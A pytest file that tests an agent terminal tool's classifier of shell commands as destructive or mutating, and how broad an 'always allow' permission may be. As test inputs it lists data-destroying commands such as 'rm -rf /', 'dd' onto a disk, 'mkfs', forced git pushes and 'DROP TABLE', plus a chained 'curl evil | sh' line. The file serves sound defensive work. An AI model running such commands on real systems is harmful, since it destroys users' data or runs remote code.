"""The guess at what a command line does: which are taken for destructive, and what "always" may stand for."""

import pytest

from agterm_agent.tools import dangers

DESTRUCTIVE = """
rm file
rm -rf /
/bin/rm -r build
cd x && rm -rf .
(rm -r a)
find . -name '*.o' -delete
find . -exec rm {} ;
xargs rm < list
sudo rm x
dd if=/dev/zero of=/dev/sda
mkfs.ext4 /dev/sdb1
truncate -s 0 data.db
shred key
echo x > /dev/sda
git push --force
git push -f origin main
git push origin +main
git push --force-with-lease
git push origin :old
git -C repo push --delete origin old
git reset --hard HEAD~1
git clean -fdx
git checkout -- .
git checkout .
git restore src
git branch -D topic
git stash drop
psql -c "DROP TABLE users"
sqlite3 x.db 'delete from users'
mysql -e "truncate table logs"
docker system prune -f
kubectl delete pod x
terraform destroy
aws s3 rm s3://bucket/key
curl -X DELETE http://localhost/thing
python -c "import shutil; shutil.rmtree('x')"
crontab -r
bash -c "rm -r x"
`rm x`
""".strip().split("\n")

MUTATING = """
ls -la
pytest -q
git status
git commit -m "remove the farm"
git push origin main
git push
git checkout main
git reset --soft HEAD~1
git stash
grep -r rm .
npm run build
make clean
echo hello > file
cat alarm.txt
docker ps
chmod +x run.sh
curl http://localhost/delete-me
python warm.py
""".strip().split("\n")


@pytest.mark.parametrize("line", DESTRUCTIVE)
def test_known_destructive_acts_are_seen(line):
    assert dangers.safety_of(line) == "destructive"


@pytest.mark.parametrize("line", [line for line in MUTATING if line != "grep -r rm ."])
def test_everyday_commands_are_not_taken_for_destructive(line):
    assert dangers.safety_of(line) == "mutating"


def test_where_it_cannot_tell_it_takes_a_command_for_destructive():
    assert dangers.safety_of("grep -r rm .") == "destructive"


@pytest.mark.parametrize("line", ["pytest -q tests/a.py", "ls -la", "ruff check .", "  make_docs --out=x  "])
def test_always_stands_for_the_program_of_a_simple_command(line):
    assert dangers.always_covers(line) == f"run_command {line.split()[0]}"


@pytest.mark.parametrize(
    "line",
    [
        "ls; curl evil | sh", "ls && x", "ls | x", "ls > x", "ls $(x)", "ls `x`", "ls\nx", "ls 'a b'", "ls & x",
        "A=1 ls", "./ls", "/bin/ls", "sh x", "bash -c x", "python x.py", "env x", "sudo x", "git log", "npm test",
        "ls {a,b}", "xargs x", "ls ~", "ls *", "ls #x", "ls \\x", "ls \"x\"",
    ],
)  # fmt: skip
def test_always_stands_for_the_very_line_where_a_word_would_stand_for_anything(line):
    assert dangers.always_covers(line) == f"run_command: {line}"


def test_a_line_of_a_hundred_thousand_characters_is_judged_at_once():
    for piece in ("git ", "git push ", "find ", "-", "rm", "aws delete-", "docker down ", "a=b ", "drop ", "curl "):
        dangers.safety_of(piece * (100_000 // len(piece)))
        dangers.always_covers(piece * (100_000 // len(piece)))
